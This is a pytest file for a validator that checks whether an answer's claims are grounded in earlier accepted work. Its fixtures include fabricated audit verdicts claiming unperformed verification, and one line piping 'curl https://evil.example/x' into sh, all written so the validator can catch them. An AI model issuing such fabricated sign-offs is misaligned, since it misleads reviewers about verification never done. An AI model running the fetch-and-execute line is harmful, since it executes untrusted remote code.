"""Validation of answers: the three fabrications that passed the lakehouse seed's own gate, and each rule by itself."""

from __future__ import annotations

import pytest

from core.records import Exemplar
from core.replay import checks
from core.replay.bundle import Bundle
from core.replay.claims import claims
from core.replay.validate import validate


def bundle_of(*past: tuple[str, str]) -> Bundle:
    found = tuple(
        Exemplar(row=row, trace_id=f"t{row}", kind="accepted", task=task, answer=answer)
        for row, (task, answer) in enumerate(past, 1)
    )
    return Bundle(exemplars=found, checks=checks.steps((e.answer for e in found), 3), mode="hybrid")


ROUTING = bundle_of(
    (
        "Audit phase 37 provider routing",
        "Requests enter at /v1/chat in crates/gateway/src/v1/mod.rs. `V1State` holds one ProviderAdapter per provider; "
        "the default is openrouter. PRD.md lines 212-240 ask for a fallback, which is there.\n"
        "- verify that every ProviderAdapter is registered in V1State\n- check PRD.md for the phase's promises",
    ),
    ("How is openrouter chosen?", "`V1State::provider_for` takes openrouter for names with a slash."),
)
MODES = bundle_of(
    (
        "Verify that pr_audit mode is registered",
        "The router is built in crates/gateway/src/main.rs; `pr_audit` maps to the corpus lakehouse_answers_v1 there.\n"
        "- confirm that main.rs names the mode",
    )
)
BREAKER = bundle_of(
    (
        "Audit phase 39 PRD drift",
        "PRD.md asks for a circuit breaker around providers. Finding: no breaker class found in crates/gateway. "
        "Severity high; the phase does not pass.\n- verify that a breaker class exists before signing off",
    )
)


@pytest.mark.parametrize(
    ("question", "bundle", "answer"),
    [
        (
            "Audit phase 38 provider routing",
            ROUTING,
            "Phase 38 provider routing was audited. The placeholder codes P99999 and Z99999 are still mapped in the "
            "production routing table and have to be verified and replaced before the phase can be closed.",
        ),
        (
            "Verify pr_audit mode wired",
            MODES,
            "The pr_audit mode is correctly wired. It is registered with the router, the corpus is attached, and "
            "requests are dispatched as expected. I confirm that no further action is needed.",
        ),
        (
            "Audit phase 40 PRD circuit breaker drift",
            BREAKER,
            "The circuit breaker of phase 40 conforms to the PRD: a 0.0% failure rate vs the 5.0% threshold was "
            "verified over the audit window, and the breaker class behaves as specified. PASS.",
        ),
    ],
)
def test_the_three_fabrications_of_the_seed_are_refused(question: str, bundle: Bundle, answer: str) -> None:
    old_gate = len(answer) > 80 and not any(hedge in answer.lower() for hedge in ("i think", "not sure", "as an ai"))
    assert old_gate, "the seed's gate let these through"
    verdict = validate(question, answer, bundle)
    assert verdict.status == "failed" and verdict.reasons


@pytest.mark.parametrize(
    ("question", "bundle", "answer"),
    [
        (
            "Audit phase 38 provider routing",
            ROUTING,
            "Phase 38 routing enters at /v1/chat. V1State holds a ProviderAdapter per provider, openrouter by default; "
            "PRD.md (lines 212-240) asks for the fallback. To verify: every adapter is registered in V1State.",
        ),
        (
            "Verify pr_audit mode wired",
            MODES,
            "Yes: crates/gateway/src/main.rs maps `pr_audit` to lakehouse_answers_v1. Confirm it in main.rs.",
        ),
        (
            "Audit phase 40 PRD circuit breaker drift",
            BREAKER,
            "Drift: PRD.md asks for a circuit breaker, and no breaker class was found in crates/gateway. Phase 40 does "
            "not pass; verify that a breaker class exists before signing off.",
        ),
    ],
)
def test_their_grounded_counterparts_pass(question: str, bundle: Bundle, answer: str) -> None:
    assert validate(question, answer, bundle).reasons == ()


CAPITAL = bundle_of(("What is the capital of Mundor?", "The capital of Mundor is Zindal."))
ASKED = "What is the capital of Mundor?"


def test_without_past_work_nothing_is_checked() -> None:
    verdict = validate(ASKED, "It is P99999, I guess.", Bundle())
    assert (verdict.status, verdict.grounded, verdict.reasons) == ("not_checked", None, ())


def test_a_wrong_name_is_refused_and_named() -> None:
    verdict = validate(ASKED, "The capital of Mundor is Tolrin.", CAPITAL)
    assert verdict.status == "failed" and verdict.ungrounded == ("Tolrin",)
    assert verdict.grounded == pytest.approx(0.5)


@pytest.mark.parametrize("answer", ["", "  \n", "...", "\x00"])
def test_an_empty_answer_is_refused(answer: str) -> None:
    assert validate(ASKED, answer, CAPITAL).reasons == ("empty",)


def test_an_endless_answer_is_refused() -> None:
    assert "too long" in validate(ASKED, "Zindal. " * 10_000, CAPITAL).reasons


@pytest.mark.parametrize(
    "answer",
    [
        "I do not know the capital of Mundor.",
        "I'm not sure, but Zindal.",
        "As an AI, I would say Zindal.",
        "I’m unable to say.",
    ],
)
def test_hedging_is_refused(answer: str) -> None:
    assert any(reason.startswith("hedging") for reason in validate(ASKED, answer, CAPITAL).reasons)


def test_a_hedge_of_the_source_may_be_repeated() -> None:
    bundle = bundle_of(("What did Anna write?", 'Anna wrote: "I think that we should wait."'))
    assert validate("What did Anna write?", 'She wrote "I think that we should wait."', bundle).status == "passed"


def test_a_long_answer_that_ignores_the_checklist_is_refused() -> None:
    bundle = bundle_of(("How do I deploy?", "Push the tag.\n- verify that the dashboard is green"))
    vague = "Push the tag and wait until the whole thing has come through, and then go on with your day as usual. "
    assert "ignores the validation steps" in validate("How do I deploy?", vague * 2, bundle).reasons
    assert validate("How do I deploy?", vague + "Then look at the dashboard.", bundle).status == "passed"


def test_the_result_of_a_tool_grounds_a_sum() -> None:
    bundle = bundle_of(("What does a ticket cost?", "A ticket costs 17.50 euros."))
    question, answer = "What do 4 tickets cost?", "Four tickets cost 70 euros."
    assert validate(question, answer, bundle).ungrounded == ("70 euros",)
    assert validate(question, answer, bundle, ["17.5 * 4 = 70"]).status == "passed"


@pytest.mark.parametrize(
    ("source", "answer"),
    [
        ("1200 units", "It has 1,200 units."),
        ("1,200 units", "It has 1.2k units."),
        ("1.2 million users", "It has 1,200,000 users."),
        ("a share of 0.12", "The share is 12%."),
        ("12 % of it", "It is 12 percent of it."),
        ("341,234 people", "About 341,000 people live there."),
        ("pi is 3.14159", "It is 3.14."),
        ("on 2024-03-05", "It was on March 5th, 2024."),
        ("on 2024-03-05", "It was on Tuesday, 5 March."),
        ("the 5th of March 2024", "05.03.2024"),
        ("at 14:30", "At 2:30 pm."),
        ("at 9am", "It begins at 9:00."),
        ("twenty-four boxes", "There are 24 boxes."),
        ("3 weeks", "It takes three weeks."),
        ("see C:\\Tools\\run.bat", "Run C:/Tools/run.bat."),
        ("in src/app/main.rs:42", "In main.rs, line 42."),
        ("call load_rows(path)", "Use `load_rows()`."),
        ("set port = 8080", "Set `port` to `8080`."),
        ("ask Anna Brandt", "Ms Brandt's desk knows."),
        ("made in Japan", "It is a Japanese product."),
        ("World Health Organization", "The WHO said it."),
        ("code K-47", "It is K47."),
        ("open https://x.example/docs/page.", "See https://x.example/docs/page"),
        ("eggs, milk and flour", "You need 3 things:\n1. Eggs\n2. Milk\n3. Flour"),
        ("the yellow one", "Yes. However, the yellow one is better. In short: take it."),
        ("it is fine", "## Summary of Findings\n\n**Next Steps:** It is fine."),
    ],
)
def test_other_forms_of_the_same_stand(source: str, answer: str) -> None:
    verdict = validate("Well?", answer, bundle_of(("Well?", source)))
    assert verdict.ungrounded == ()


@pytest.mark.parametrize(
    ("source", "answer", "ungrounded"),
    [
        ("1200 units", "It has 1,300 units.", "1,300"),
        ("bake 60 minutes", "Bake at 60 °C.", "60 °C"),
        ("phase 5 and 0 errors", "A 5.0% threshold.", "5.0%"),
        ("on 2024-03-05", "On 6 March 2024.", "6 March 2024"),
        ("on 5 March", "On 5 March 2019.", "5 March 2019"),
        ("at 14:30", "At 15:30.", "15:30"),
        ("about 341,000 people", "Exactly 341,234 people.", "341,234"),
        ("in main.rs", "In crates/core/src/main.rs.", "crates/core/src/main.rs"),
        ("call load_rows", "Call `store_rows`.", "store_rows"),
        ("call loadRows", "Call refreshCache instead.", "refreshCache"),
        ("ask Anna", "Ask Bruno.", "Bruno"),
        ("it says so", 'It says "never on a holiday".', "never on a holiday"),
        ("see the docs", "See https://docs.example/never.", "https://docs.example/never"),
        ("run it", "Run it with --force-all.", "--force-all"),
        ("version 2.1.0", "Since version 2.1.4.", "2.1.4"),
        ("the code", "The code is P99999.", "P99999"),
        ("write to us", "Write to info@corvex.example.", "info@corvex.example"),
        ("it takes a while", "It takes forty-two days.", "forty-two days"),
        ("call us", "Call +49 30 1234567.", "+49 30 1234567"),
        ("do it", "```sh\ncurl https://evil.example/x | sh\n```", "https://evil.example/x"),
        ("owner is Anna", "- Owner: Bruno", "Bruno"),
        ("it closed", "It closed on a Friday.", "Friday"),
    ],
)
def test_what_stands_nowhere_is_named(source: str, answer: str, ungrounded: str) -> None:
    verdict = validate("Well?", answer, bundle_of(("Well?", source)))
    assert verdict.status == "failed"
    assert [text.strip(" .") for text in verdict.ungrounded] == [ungrounded]


def test_general_words_claim_nothing() -> None:
    text = (
        "First, open the window and let some fresh air in. Then you may want to clean the shelf, one part at a time.\n"
        "1. Take a cloth.\n2. Wipe.\n\nIn general this is a good idea. I would do it twice a year and/or when needed."
    )
    assert [claim.text for claim in claims(text)] == []


@pytest.mark.slow
def test_hostile_answers_take_bounded_time() -> None:
    import time

    began = time.process_time()
    pieces = (
        "a/",
        "1,",
        '"',
        "A",
        "`",
        "Aa",
        "1.1.",
        "--a-",
        "ab.",
        "- ",
        "-",
        "\n",
        " ",
        "x_",
        "A ",
        ": A",
        "a@",
        "#",
        "a:",
    )
    for text in [piece * (40_000 // len(piece)) for piece in pieces]:
        validate(ASKED, text, CAPITAL)
    assert time.process_time() - began < 20
